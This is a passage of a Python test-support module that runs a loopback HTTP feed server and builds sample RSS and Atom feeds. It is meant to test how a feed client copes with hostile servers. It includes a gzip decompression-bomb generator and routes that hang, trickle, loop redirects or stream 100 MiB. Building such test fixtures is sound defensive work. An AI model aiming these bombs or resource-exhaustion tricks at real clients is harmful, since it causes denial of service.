"""A real HTTP/1.1 feed server on loopback, and realistic (and hostile) sample feeds.

:class:`FeedServer` listens on a free port of 127.0.0.1, answers with one daemon
thread per connection (keep-alive, like a real server) and serves the routes a
test registers::

    with FeedServer() as srv:                      # FeedServer(tls=True) for HTTPS
        url = srv.feed("/blog/feed/", wordpress("nl"))
        ...                                        # fetch url with the code under test
        assert srv.conditional_count("/blog/feed/") == 1

Route kinds (each registration returns the route's full URL):

* :meth:`FeedServer.feed` — a feed with validators (ETag, strong or weak, and
  Last-Modified, worked out from the body unless given) and conditional GET
  done right: ``If-None-Match`` (a list, weak comparison, ``*``) wins over
  ``If-Modified-Since``; a match answers 304 without a body. Optional gzip,
  negotiated through ``Accept-Encoding``.
* hostile behaviour: :meth:`~FeedServer.redirect` (and
  :meth:`~FeedServer.redirect_loop`), :meth:`~FeedServer.trickle` (one byte a
  second, then the connection is held open), :meth:`~FeedServer.huge` (streams
  100 MiB of valid-looking RSS without holding it, or with ``gzip=True`` a
  decompression bomb), :meth:`~FeedServer.status` (429/503 with Retry-After),
  :meth:`~FeedServer.hang` (reads the request, never answers),
  :meth:`~FeedServer.close_early` (Content-Length larger than what is sent);
* :attr:`FeedServer.latency` seconds of delay before every response.

What the server saw is in :attr:`FeedServer.requests` (method, request target,
headers with lower-case names) and :attr:`FeedServer.responses`; helpers count
per path: :meth:`~FeedServer.count`, :meth:`~FeedServer.conditional_count`,
:meth:`~FeedServer.body_bytes_sent`, :meth:`~FeedServer.statuses`.

Every thread is a daemon, every wait is bounded, and :meth:`FeedServer.stop`
returns within a few seconds even with trickling or hanging clients connected:
it wakes the waiting handlers and shuts their sockets down.
:func:`closed_port` gives a port nothing listens on (connection refused).

With ``tls=True`` the server uses a self-signed certificate made with the
``openssl`` command line tool; clients do not trust it (the "TLS error" case)
unless they load :attr:`FeedServer.cafile`.

The second half of this module builds sample feeds as bytes: :func:`rss2` and
:func:`atom` from :class:`Item` values, the preset shapes
(:func:`google_alerts`, :func:`reddit_search`, :func:`hacker_news`,
:func:`mastodon`, :func:`wordpress`) in English, Dutch and Arabic, and hostile
documents (:func:`billion_laughs`, :func:`quadratic_blowup`,
:func:`external_entity`, :func:`invalid_xml`, :func:`html_page`,
:func:`wrong_charset`, :func:`script_injection`).
"""

from __future__ import annotations

import contextlib
import enum
import functools
import gzip as gzip_module
import hashlib
import re
import shutil
import socket
import socketserver
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zlib
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime, parsedate_to_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType
from typing import Literal, NamedTuple
from urllib.parse import quote
from xml.sax.saxutils import escape

__all__ = [
    "AUTO",
    "BRAND",
    "FeedServer",
    "Item",
    "Lang",
    "Request",
    "Response",
    "atom",
    "billion_laughs",
    "closed_port",
    "external_entity",
    "google_alerts",
    "hacker_news",
    "html_page",
    "invalid_xml",
    "mastodon",
    "preset_samples",
    "quadratic_blowup",
    "reddit_search",
    "rss2",
    "script_injection",
    "wordpress",
    "wrong_charset",
]

RSS_TYPE = "application/rss+xml; charset=utf-8"
ATOM_TYPE = "application/atom+xml; charset=utf-8"
MAX_HOLD = 300.0  # seconds a trickle/hang handler waits at most when stop() never comes
IDLE_TIMEOUT = 30.0  # seconds an idle keep-alive connection is kept
_CHUNK = 64 * 1024


class _Auto(enum.Enum):
    AUTO = "auto"


AUTO = _Auto.AUTO
"""Default for validators: work the ETag (content hash) or Last-Modified out."""


class Request(NamedTuple):
    """One request the server read: method, request target (path and query),
    headers (names in lower case; repeated headers joined with ", ")."""

    method: str
    path: str
    headers: dict[str, str]


class Response(NamedTuple):
    """What the server answered: request target, status (0: no status line was
    sent, e.g. :meth:`FeedServer.hang`), body bytes written on the wire."""

    path: str
    status: int
    body_bytes: int


# --- routes ------------------------------------------------------------------


@dataclass(frozen=True)
class _Feed:
    body: bytes
    content_type: str
    etag: str | None
    last_modified: datetime | None
    gzip_body: bytes | None
    status: int
    headers: tuple[tuple[str, str], ...]


@dataclass(frozen=True)
class _Redirect:
    to: str
    status: int


@dataclass(frozen=True)
class _Trickle:
    body: bytes
    bytes_per_second: float
    content_type: str
    content_length: bool


@dataclass(frozen=True)
class _Huge:
    size: int
    gzip: bool
    content_length: bool


@dataclass(frozen=True)
class _Status:
    code: int
    headers: tuple[tuple[str, str], ...]
    body: bytes


@dataclass(frozen=True)
class _Hang:
    pass


@dataclass(frozen=True)
class _CloseEarly:
    body: bytes
    declared_length: int
    content_type: str


_Route = _Feed | _Redirect | _Trickle | _Huge | _Status | _Hang | _CloseEarly


# --- the server ----------------------------------------------------------------


def closed_port() -> int:
    """A port on 127.0.0.1 that nothing listens on: connecting is refused."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _make_cert(directory: Path) -> tuple[Path, Path]:
    """A self-signed certificate for 127.0.0.1 and localhost (its own CA)."""
    if shutil.which("openssl") is None:
        raise RuntimeError("the openssl command line tool is needed for FeedServer(tls=True)")
    cert, key = directory / "cert.pem", directory / "key.pem"
    subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-days",
            "2",
            "-subj",
            "/CN=cm-desk feed test server",
            "-addext",
            "subjectAltName=IP:127.0.0.1,DNS:localhost",
            "-addext",
            "basicConstraints=critical,CA:TRUE",
            "-addext",
            "keyUsage=critical,digitalSignature,keyCertSign",
            "-addext",
            "extendedKeyUsage=serverAuth",
            "-keyout",
            str(key),
            "-out",
            str(cert),
        ],
        check=True,
        capture_output=True,
        timeout=60,
    )
    return cert, key


class FeedServer:
    """A threaded HTTP/1.1 (or HTTPS) server on 127.0.0.1 serving registered routes.

    Starts listening on construction; :meth:`stop` (or leaving the ``with``
    block) shuts it down. Routes may be added or replaced at any time.
    """

    def __init__(self, *, tls: bool = False) -> None:
        self.latency: float = 0.0
        """Seconds to wait before every response (simulated network latency)."""
        self.requests: list[Request] = []
        self.responses: list[Response] = []
        self.errors: list[str] = []
        """Unexpected handler exceptions (connection errors are not recorded)."""
        self.connections = 0
        """TCP connections accepted so far (keep-alive reuse keeps this low)."""
        self.cafile: str | None = None
        """With ``tls=True``: the PEM file a client can trust to accept this server."""
        self.tls = tls
        self._routes: dict[str, _Route] = {}
        self._lock = threading.Lock()
        self._stopping = threading.Event()
        self._stopped = False
        self._connections: dict[socket.socket, threading.Thread] = {}
        self._tmpdir: Path | None = None
        self._ssl: ssl.SSLContext | None = None
        if tls:
            self._tmpdir = Path(tempfile.mkdtemp(prefix="cm-desk-feedsrv-"))
            cert, key = _make_cert(self._tmpdir)
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(cert, key)
            self._ssl = context
            self.cafile = str(cert)
        self._httpd = _HTTPServer(self)
        self.port: int = int(self._httpd.server_address[1])
        self._thread = threading.Thread(
            target=self._httpd.serve_forever,
            kwargs={"poll_interval": 0.05},
            name=f"feed-server-{self.port}",
            daemon=True,
        )
        self._thread.start()

    # -- life cycle

    def __enter__(self) -> FeedServer:
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.stop()

    def stop(self, timeout: float = 3.0) -> None:
        """Stop listening, wake every waiting handler, shut every open connection
        down and wait (at most about ``timeout`` seconds) for the handler threads.
        Safe to call more than once."""
        if self._stopped:
            return
        self._stopped = True
        self._stopping.set()
        stopper = threading.Thread(target=self._httpd.shutdown, daemon=True)
        stopper.start()
        stopper.join(timeout)
        self._httpd.server_close()
        with self._lock:
            connections = dict(self._connections)
            for conn in connections:
                _shut(conn)
        deadline = time.monotonic() + timeout
        for thread in connections.values():
            thread.join(max(0.0, deadline - time.monotonic()))
        self._thread.join(max(0.1, deadline - time.monotonic()))
        if self._tmpdir is not None:
            shutil.rmtree(self._tmpdir, ignore_errors=True)

    @property
    def stopped(self) -> bool:
        """Whether :meth:`stop` was called."""
        return self._stopped

    # -- addresses

    @property
    def base_url(self) -> str:
        """``http://127.0.0.1:PORT`` (``https`` with ``tls=True``)."""
        scheme = "https" if self.tls else "http"
        return f"{scheme}://127.0.0.1:{self.port}"

    def url(self, path: str) -> str:
        """The absolute URL of ``path`` (which starts with ``/``) on this server."""
        if not path.startswith("/"):
            path = "/" + path
        return self.base_url + path

    # -- routes

    def feed(
        self,
        path: str,
        body: bytes,
        *,
        content_type: str = RSS_TYPE,
        etag: str | Literal[_Auto.AUTO] | None = AUTO,
        weak_etag: bool = False,
        last_modified: datetime | Literal[_Auto.AUTO] | None = AUTO,
        gzip: bool = False,
        status: int = 200,
        headers: Mapping[str, str] | None = None,
    ) -> str:
        """Serve ``body`` at ``path`` (a path, or a path with its query string).

        ``etag``: ``AUTO`` is a strong tag from the body's hash, ``None`` sends
        none, a string is used as given (quoted if it is not). ``weak_etag``
        makes it ``W/"..."``. ``last_modified``: ``AUTO`` is the time of
        registration, kept when the same body is registered again and moved on
        by at least a second when the body changes; ``None`` sends none.
        ``gzip``: answer with ``Content-Encoding: gzip`` to clients that accept
        it. Conditional requests are answered 304 only when ``status`` is 2xx.
        Returns the route's URL.
        """
        with self._lock:
            previous = self._routes.get(path)
            tag: str | None
            if etag is AUTO:
                tag = '"' + hashlib.sha256(body).hexdigest()[:24] + '"'
            elif etag is None:
                tag = None
            else:
                tag = etag if etag.startswith(('"', 'W/"')) else f'"{etag}"'
            if tag is not None and weak_etag and not tag.startswith("W/"):
                tag = "W/" + tag
            modified: datetime | None
            if last_modified is AUTO:
                modified = _auto_last_modified(previous, body)
            elif last_modified is None:
                modified = None
            else:
                if last_modified.tzinfo is None:
                    last_modified = last_modified.replace(tzinfo=UTC)
                modified = last_modified.astimezone(UTC).replace(microsecond=0)
            self._routes[path] = _Feed(
                body=body,
                content_type=content_type,
                etag=tag,
                last_modified=modified,
                gzip_body=gzip_module.compress(body, mtime=0) if gzip else None,
                status=status,
                headers=tuple((headers or {}).items()),
            )
        return self.url(path)

    def etag(self, path: str) -> str | None:
        """The ETag the feed at ``path`` currently sends."""
        route = self._routes.get(path)
        return route.etag if isinstance(route, _Feed) else None

    def last_modified(self, path: str) -> str | None:
        """The Last-Modified header the feed at ``path`` currently sends."""
        route = self._routes.get(path)
        if isinstance(route, _Feed) and route.last_modified is not None:
            return _http_date(route.last_modified)
        return None

    def redirect(self, path: str, to: str, status: int = 301) -> str:
        """Answer ``path`` with a redirect to ``to`` (sent verbatim as Location:
        an absolute URL, or a path the client resolves against the request)."""
        if status not in (301, 302, 303, 307, 308):
            raise ValueError(f"not a redirect status: {status}")
        self._set(path, _Redirect(to=to, status=status))
        return self.url(path)

    def redirect_loop(self, *paths: str, status: int = 302) -> str:
        """Redirect each path to the next and the last to the first (``/a`` →
        ``/b`` → ``/a``). Returns the first path's URL."""
        if not paths:
            raise ValueError("redirect_loop needs at least one path")
        for here, there in zip(paths, (*paths[1:], paths[0]), strict=True):
            self.redirect(here, there, status)
        return self.url(paths[0])

    def trickle(
        self,
        path: str,
        body: bytes | None = None,
        bytes_per_second: float = 1.0,
        *,
        content_type: str = RSS_TYPE,
        content_length: bool = False,
    ) -> str:
        """Send the headers at once, then ``body`` at ``bytes_per_second`` (byte
        ``n`` leaves about ``n / bytes_per_second`` seconds after the headers),
        then hold the connection open until :meth:`stop`. Without
        ``content_length`` the body is delimited by the connection closing, so
        the client cannot know it is complete (with it, the response ends
        normally after the last byte). ``body`` defaults to a small,
        valid RSS document."""
        if bytes_per_second <= 0:
            raise ValueError("bytes_per_second must be positive")
        if body is None:
            body = rss2(_sample_items("en", "trickle"), title="Trickle")
        self._set(path, _Trickle(body, bytes_per_second, content_type, content_length))
        return self.url(path)

    def huge(
        self,
        path: str,
        size: int = 100 * 1024 * 1024,
        *,
        gzip: bool = False,
        content_length: bool = True,
    ) -> str:
        """Stream ``size`` bytes of well-formed RSS (generated as it is sent).

        With ``gzip=True`` this is a decompression bomb: a small gzip body
        (``Content-Encoding: gzip``, whatever the client accepts) that inflates
        to exactly ``size`` bytes. ``content_length=False`` leaves the length
        out (the body then ends when the connection closes)."""
        if size < 0:
            raise ValueError("size must not be negative")
        self._set(path, _Huge(size, gzip, content_length))
        return self.url(path)

    def status(
        self,
        path: str,
        code: int,
        headers: Mapping[str, str] | None = None,
        body: bytes | None = None,
    ) -> str:
        """Answer ``path`` with status ``code`` and a short text body. ``headers``
        default to ``{"Retry-After": "120"}`` (as for 429 and 503)."""
        if headers is None:
            headers = {"Retry-After": "120"}
        if body is None:
            body = f"{code} - try again later\n".encode()
        self._set(path, _Status(code, tuple(headers.items()), body))
        return self.url(path)

    def hang(self, path: str) -> str:
        """Read the request, then never answer (until :meth:`stop`, which closes
        the connection without a response)."""
        self._set(path, _Hang())
        return self.url(path)

    def close_early(
        self,
        path: str,
        body: bytes | None = None,
        declared_length: int | None = None,
        *,
        content_type: str = RSS_TYPE,
    ) -> str:
        """Send headers with a Content-Length of ``declared_length`` (default:
        1000 more than the body), then ``body``, then close the connection."""
        if body is None:
            body = rss2(_sample_items("en", "cut"), title="Cut short")[:200]
        if declared_length is None:
            declared_length = len(body) + 1000
        self._set(path, _CloseEarly(body, declared_length, content_type))
        return self.url(path)

    def remove(self, path: str) -> None:
        """Forget a route (it answers 404 again)."""
        with self._lock:
            self._routes.pop(path, None)

    # -- what the server saw

    def count(self, path: str) -> int:
        """Requests for ``path`` (a path without a query counts every query)."""
        return sum(1 for r in list(self.requests) if _same(r.path, path))

    def conditional_count(self, path: str) -> int:
        """Requests for ``path`` carrying If-None-Match or If-Modified-Since."""
        return sum(
            1
            for r in list(self.requests)
            if _same(r.path, path)
            and ("if-none-match" in r.headers or "if-modified-since" in r.headers)
        )

    def body_bytes_sent(self, path: str) -> int:
        """Body bytes written on the wire for ``path`` (compressed size for gzip)."""
        return sum(r.body_bytes for r in list(self.responses) if _same(r.path, path))

    def statuses(self, path: str) -> list[int]:
        """Status codes answered for ``path``, in order (0: no answer)."""
        return [r.status for r in list(self.responses) if _same(r.path, path)]

    def clear_log(self) -> None:
        """Forget the requests and responses seen so far."""
        self.requests.clear()
        self.responses.clear()

    # -- internals used by the handler

    def _set(self, path: str, route: _Route) -> None:
        with self._lock:
            self._routes[path] = route

    def _route_for(self, target: str) -> _Route | None:
        with self._lock:
            route = self._routes.get(target)
            if route is None:
                route = self._routes.get(target.split("?", 1)[0])
            return route

    def _track(self, conn: socket.socket) -> None:
        with self._lock:
            self._connections[conn] = threading.current_thread()
            if self._stopping.is_set():
                _shut(conn)

    def _untrack(self, conn: socket.socket) -> None:
        with self._lock:
            self._connections.pop(conn, None)


def _shut(conn: socket.socket) -> None:
    # socket.socket.shutdown on purpose: SSLSocket.shutdown would also drop its
    # TLS state under the feet of the thread still reading from it.
    with contextlib.suppress(OSError):
        socket.socket.shutdown(conn, socket.SHUT_RDWR)


def _same(recorded: str, path: str) -> bool:
    return recorded == path or ("?" not in path and recorded.split("?", 1)[0] == path)


def _auto_last_modified(previous: _Route | None, body: bytes) -> datetime:
    now = datetime.now(UTC).replace(microsecond=0)
    if isinstance(previous, _Feed) and previous.last_modified is not None:
        if previous.body == body:
            return previous.last_modified
        if previous.last_modified >= now:
            return previous.last_modified + timedelta(seconds=1)
    return now


def _http_date(when: datetime) -> str:
    return format_datetime(when.astimezone(UTC), usegmt=True)


_ETAG = re.compile(r'(?:W/)?"[^"]*"')


def _opaque(tag: str) -> str:
    tag = tag.strip()
    if tag.startswith("W/"):
        tag = tag[2:]
    return tag.strip('"')


def _etag_matches(header: str, current: str | None) -> bool:
    """If-None-Match evaluation with the weak comparison function."""
    if header.strip() == "*":
        return True
    if current is None:
        return False
    tags = _ETAG.findall(header) or [t for t in header.split(",") if t.strip()]
    return any(_opaque(t) == _opaque(current) for t in tags)


def _not_modified(route: _Feed, headers: Mapping[str, str]) -> bool:
    if not 200 <= route.status < 300:
        return False
    if_none_match = headers.get("if-none-match")
    if if_none_match is not None:  # takes precedence: If-Modified-Since is ignored
        return _etag_matches(if_none_match, route.etag)
    if_modified_since = headers.get("if-modified-since")
    if if_modified_since is None or route.last_modified is None:
        return False
    try:
        since = parsedate_to_datetime(if_modified_since)
    except (TypeError, ValueError, IndexError):
        return False
    if since.tzinfo is None:
        since = since.replace(tzinfo=UTC)
    return route.last_modified <= since


def _accepts_gzip(accept_encoding: str) -> bool:
    star = False
    for part in accept_encoding.split(","):
        name, _, params = part.strip().partition(";")
        q = 1.0
        match = re.search(r"q\s*=\s*([0-9.]+)", params)
        if match:
            try:
                q = float(match.group(1))
            except ValueError:
                q = 0.0
        coding = name.strip().lower()
        if coding in ("gzip", "x-gzip"):
            return q > 0
        if coding == "*":
            star = q > 0
    return star


_HUGE_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0">\n<channel>\n'
    b"<title>A very large feed</title>\n<link>https://huge.example/</link>\n"
    b"<description>Generated while it is sent</description>\n"
)
_HUGE_TAIL = b"</channel>\n</rss>\n"


def _huge_item(n: int) -> bytes:
    return (
        f"<item><title>Huge feed item {n:07d}</title>"
        f"<link>https://huge.example/items/{n:07d}</link>"
        f'<guid isPermaLink="false">huge-{n:07d}</guid>'
        "<pubDate>Wed, 01 May 2024 12:00:00 +0000</pubDate>"
        "<description>Lorem ipsum dolor sit amet, consectetur adipiscing elit, "
        "sed do eiusmod tempor incididunt ut labore.</description></item>\n"
    ).encode()


def _huge_chunks(size: int) -> Iterator[bytes]:
    """Exactly ``size`` bytes of well-formed RSS, a block at a time."""
    remaining = size - len(_HUGE_HEAD) - len(_HUGE_TAIL)
    if remaining < 0:
        yield (_HUGE_HEAD + _HUGE_TAIL)[:size]
        return
    yield _HUGE_HEAD
    n = 0
    while remaining > 0:
        items = [_huge_item(i) for i in range(n, n + 256)]
        n += 256
        block = b"".join(items)
        if len(block) <= remaining:
            yield block
            remaining -= len(block)
            continue
        used, part = 0, []
        for item in items:
            if used + len(item) > remaining:
                break
            part.append(item)
            used += len(item)
        yield b"".join(part) + b" " * (remaining - used)
        remaining = 0
    yield _HUGE_TAIL


_BOMB_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
    b"<title>Small on the wire</title><link>https://bomb.example/</link>"
    b"<item><title>Bomb</title><description>"
)
_BOMB_TAIL = b"</description></item></channel></rss>\n"


@functools.lru_cache(maxsize=4)
def _gzip_bomb(size: int) -> bytes:
    """A gzip stream inflating to exactly ``size`` bytes of well-formed RSS,
    built without ever holding the inflated document."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip container
    filler = size - len(_BOMB_HEAD) - len(_BOMB_TAIL)
    if filler < 0:
        return gzip_module.compress((_BOMB_HEAD + _BOMB_TAIL)[:size], mtime=0)
    out = [compressor.compress(_BOMB_HEAD)]
    block = b"A" * (1024 * 1024)
    while filler > 0:
        piece = block if filler >= len(block) else block[:filler]
        out.append(compressor.compress(piece))
        filler -= len(piece)
    out.append(compressor.compress(_BOMB_TAIL))
    out.append(compressor.flush())
    return b"".join(out)


class _HTTPServer(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    allow_reuse_address = True
    request_queue_size = 512  # benchmarks open hundreds of connections at once

    def __init__(self, owner: FeedServer) -> None:
        self.owner = owner
        super().__init__(("127.0.0.1", 0), _Handler)

    def server_bind(self) -> None:
        # HTTPServer.server_bind looks the host name up (getfqdn): skip that.
        socketserver.TCPServer.server_bind(self)
        self.server_name = "127.0.0.1"
        self.server_port = int(self.server_address[1])

    def handle_error(self, request: object, client_address: object) -> None:
        exc = sys.exc_info()[1]
        if isinstance(exc, OSError):  # resets, broken pipes, timeouts, TLS refusals
            return
        self.owner.errors.append(traceback.format_exc())


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "cm-desk-feed-test/1.0"
    timeout = IDLE_TIMEOUT
    server: _HTTPServer

    _status = 0
    _sent = 0

    def setup(self) -> None:
        owner = self.server.owner
        with owner._lock:
            owner.connections += 1
        conn: socket.socket = self.request
        conn.settimeout(self.timeout)
        if owner._ssl is not None:
            conn = owner._ssl.wrap_socket(conn, server_side=True, do_handshake_on_connect=False)
            self.request = conn
        owner._track(conn)
        try:
            if isinstance(conn, ssl.SSLSocket):
                conn.do_handshake()
            super().setup()
        except BaseException:
            owner._untrack(conn)
            if isinstance(conn, ssl.SSLSocket):
                conn.close()
            raise

    def finish(self) -> None:
        try:
            super().finish()
        finally:
            self.server.owner._untrack(self.connection)
            if isinstance(self.connection, ssl.SSLSocket):
                self.connection.close()

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self._serve()

    def do_HEAD(self) -> None:
        self._serve()

    # -- one request

    def _serve(self) -> None:
        owner = self.server.owner
        target = self.path
        headers: dict[str, str] = {}
        for name, value in self.headers.items():
            key = name.lower()
            headers[key] = f"{headers[key]}, {value}" if key in headers else value
        owner.requests.append(Request(self.command, target, headers))
        self._status, self._sent = 0, 0
        try:
            if owner.latency > 0 and owner._stopping.wait(owner.latency):
                self.close_connection = True
                return
            route = owner._route_for(target)
            match route:
                case _Feed():
                    self._feed(route, headers)
                case _Redirect():
                    body = f'<a href="{escape(route.to)}">moved</a>\n'.encode()
                    self._head(route.status, [("Location", route.to)], "text/html", len(body))
                    self._body(body)
                case _Trickle():
                    self._trickle(route)
                case _Huge():
                    self._huge(route)
                case _Status():
                    self._head(route.code, list(route.headers), "text/plain", len(route.body))
                    self._body(route.body)
                case _Hang():
                    owner._stopping.wait(MAX_HOLD)
                    self.close_connection = True
                case _CloseEarly():
                    self._head(200, [], route.content_type, route.declared_length)
                    self._body(route.body)
                    self.close_connection = True
                case None:
                    body = b"no such feed\n"
                    self._head(404, [], "text/plain", len(body))
                    self._body(body)
        finally:
            owner.responses.append(Response(target, self._status, self._sent))
            if owner._stopping.is_set():
                self.close_connection = True

    def _head(
        self,
        status: int,
        headers: Iterable[tuple[str, str]],
        content_type: str | None,
        length: int | None,
    ) -> None:
        """Status line and headers; ``length=None`` means "until the connection closes"."""
        self._status = status
        self.send_response(status)
        if content_type is not None:
            self.send_header("Content-Type", content_type)
        if length is None:
            self.send_header("Connection", "close")  # also sets close_connection
        else:
            self.send_header("Content-Length", str(length))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()

    def _body(self, data: bytes) -> None:
        if self.command != "HEAD" and data:
            self.wfile.write(data)
            self._sent += len(data)

    def _feed(self, route: _Feed, headers: Mapping[str, str]) -> None:
        validators: list[tuple[str, str]] = []
        if route.etag is not None:
            validators.append(("ETag", route.etag))
        if route.last_modified is not None:
            validators.append(("Last-Modified", _http_date(route.last_modified)))
        if route.gzip_body is not None:
            validators.append(("Vary", "Accept-Encoding"))
        if _not_modified(route, headers):
            self._status = 304
            self.send_response(304)
            for name, value in validators:
                self.send_header(name, value)
            self.end_headers()
            return
        body = route.body
        extra = [*validators, *route.headers]
        if route.gzip_body is not None and _accepts_gzip(headers.get("accept-encoding", "")):
            body = route.gzip_body
            extra.append(("Content-Encoding", "gzip"))
        self._head(route.status, extra, route.content_type, len(body))
        self._body(body)

    def _trickle(self, route: _Trickle) -> None:
        stopping = self.server.owner._stopping
        length = len(route.body) if route.content_length else None
        self._head(200, [], route.content_type, length)
        if self.command == "HEAD":
            return
        step = 1 if route.bytes_per_second <= 20 else round(route.bytes_per_second / 20)
        interval = step / route.bytes_per_second
        for start in range(0, len(route.body), step):
            if stopping.wait(interval):
                self.close_connection = True
                return
            self._body(route.body[start : start + step])
        if route.content_length:
            return  # a complete response: the connection may carry the next request
        stopping.wait(MAX_HOLD)  # the client cannot tell the body is over: hold it open
        self.close_connection = True

    def _huge(self, route: _Huge) -> None:
        stopping = self.server.owner._stopping
        if route.gzip:
            data = _gzip_bomb(route.size)
            length = len(data) if route.content_length else None
            self._head(200, [("Content-Encoding", "gzip")], RSS_TYPE, length)
            chunks: Iterable[bytes] = (data[i : i + _CHUNK] for i in range(0, len(data), _CHUNK))
        else:
            self._head(200, [], RSS_TYPE, route.size if route.content_length else None)
            chunks = _huge_chunks(route.size)
        if self.command == "HEAD":
            return
        for chunk in chunks:
            if stopping.is_set():
                self.close_connection = True
                return
            self._body(chunk)


# --- sample feeds ----------------------------------------------------------------

Lang = Literal["en", "nl", "ar"]
BRAND = "Orbito"
"""The brand the samples talk about."""

_BASE = datetime(2024, 5, 1, 12, 0, 0, tzinfo=UTC)


@dataclass(frozen=True)
class Item:
    """One RSS item or Atom entry for :func:`rss2` and :func:`atom`.

    ``summary`` and ``content_html`` are HTML (escaped into the document);
    ``guid`` is the RSS guid or Atom id (Atom falls back to ``link``)."""

    title: str | None
    link: str | None = None
    guid: str | None = None
    guid_is_permalink: bool = False
    summary: str | None = None
    content_html: str | None = None
    author: str | None = None
    author_uri: str | None = None
    published: datetime | None = None
    updated: datetime | None = None
    comments: str | None = None
    categories: tuple[str, ...] = ()


def _attr(value: str) -> str:
    return escape(value, {'"': "&quot;"})


def _cdata(value: str) -> str:
    return "<![CDATA[" + value.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def _rfc822(when: datetime) -> str:
    return format_datetime(when.astimezone(UTC))


def _iso(when: datetime) -> str:
    return when.astimezone(UTC).isoformat().replace("+00:00", "Z")


def rss2(
    items: Iterable[Item],
    *,
    title: str = "Sample feed",
    link: str = "https://example.org/",
    description: str = "A sample RSS 2.0 feed",
    language: str = "en",
    updated: datetime | None = None,
) -> bytes:
    """An RSS 2.0 document (UTF-8) with the content, dc and atom namespaces."""
    items = list(items)
    if updated is None:
        updated = max((d for i in items if (d := i.updated or i.published)), default=_BASE)
    out = [
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:atom="http://www.w3.org/2005/Atom">\n<channel>\n'
        f"<title>{escape(title)}</title>\n<link>{escape(link)}</link>\n"
        f"<description>{escape(description)}</description>\n"
        f"<language>{escape(language)}</language>\n"
        f"<lastBuildDate>{_rfc822(updated)}</lastBuildDate>\n"
    ]
    for item in items:
        out.append("<item>\n")
        if item.title is not None:
            out.append(f"  <title>{escape(item.title)}</title>\n")
        if item.link is not None:
            out.append(f"  <link>{escape(item.link)}</link>\n")
        if item.guid is not None:
            permalink = "true" if item.guid_is_permalink else "false"
            out.append(f'  <guid isPermaLink="{permalink}">{escape(item.guid)}</guid>\n')
        if item.author is not None:
            out.append(f"  <dc:creator>{_cdata(item.author)}</dc:creator>\n")
        if item.published is not None:
            out.append(f"  <pubDate>{_rfc822(item.published)}</pubDate>\n")
        if item.comments is not None:
            out.append(f"  <comments>{escape(item.comments)}</comments>\n")
        for category in item.categories:
            out.append(f"  <category>{_cdata(category)}</category>\n")
        if item.summary is not None:
            out.append(f"  <description>{escape(item.summary)}</description>\n")
        if item.content_html is not None:
            out.append(f"  <content:encoded>{_cdata(item.content_html)}</content:encoded>\n")
        out.append("</item>\n")
    out.append("</channel>\n</rss>\n")
    return "".join(out).encode()


def atom(
    entries: Iterable[Item],
    *,
    title: str = "Sample feed",
    feed_id: str = "urn:uuid:6f1c3c7e-2b9c-4a53-9a59-000000000001",
    link: str = "https://example.org/",
    lang: str = "en",
    updated: datetime | None = None,
) -> bytes:
    """An Atom 1.0 document (UTF-8); HTML goes into ``type="html"`` elements."""
    entries = list(entries)
    if updated is None:
        updated = max((d for e in entries if (d := e.updated or e.published)), default=_BASE)
    out = [
        '<?xml version="1.0" encoding="utf-8"?>\n'
        f'<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="{_attr(lang)}">\n'
        f"<id>{escape(feed_id)}</id>\n<title>{escape(title)}</title>\n"
        f'<link rel="alternate" href="{_attr(link)}"/>\n<updated>{_iso(updated)}</updated>\n'
    ]
    for entry in entries:
        out.append("<entry>\n")
        entry_id = entry.guid or entry.link or "urn:uuid:missing"
        out.append(f"  <id>{escape(entry_id)}</id>\n")
        if entry.title is not None:
            out.append(f'  <title type="html">{escape(entry.title)}</title>\n')
        if entry.link is not None:
            out.append(f'  <link rel="alternate" href="{_attr(entry.link)}"/>\n')
        when = entry.updated or entry.published or updated
        if entry.published is not None:
            out.append(f"  <published>{_iso(entry.published)}</published>\n")
        out.append(f"  <updated>{_iso(when)}</updated>\n")
        if entry.author is not None:
            uri = f"<uri>{escape(entry.author_uri)}</uri>" if entry.author_uri else ""
            out.append(f"  <author><name>{escape(entry.author)}</name>{uri}</author>\n")
        for category in entry.categories:
            out.append(f'  <category term="{_attr(category)}"/>\n')
        if entry.summary is not None:
            out.append(f'  <summary type="html">{escape(entry.summary)}</summary>\n')
        if entry.content_html is not None:
            out.append(f'  <content type="html">{escape(entry.content_html)}</content>\n')
        out.append("</entry>\n")
    out.append("</feed>\n")
    return "".join(out).encode()


def _sample_items(lang: Lang, prefix: str, count: int = 3) -> list[Item]:
    """Plain items for generic feeds, ``count`` of them, in ``lang``."""
    text = {
        "en": ("Community update", "What changed in the {brand} app this week."),
        "nl": ("Nieuws uit de gemeenschap", "Wat er deze week veranderde in de {brand}-app."),
        "ar": ("أخبار المجتمع", "ما الذي تغيّر في تطبيق {brand} هذا الأسبوع."),
    }[lang]
    return [
        Item(
            title=f"{text[0]} {n}",
            link=f"https://example.org/{prefix}/{lang}/{n}",
            guid=f"{prefix}-{lang}-{n}",
            summary=text[1].format(brand=BRAND),
            published=_BASE - timedelta(hours=n),
        )
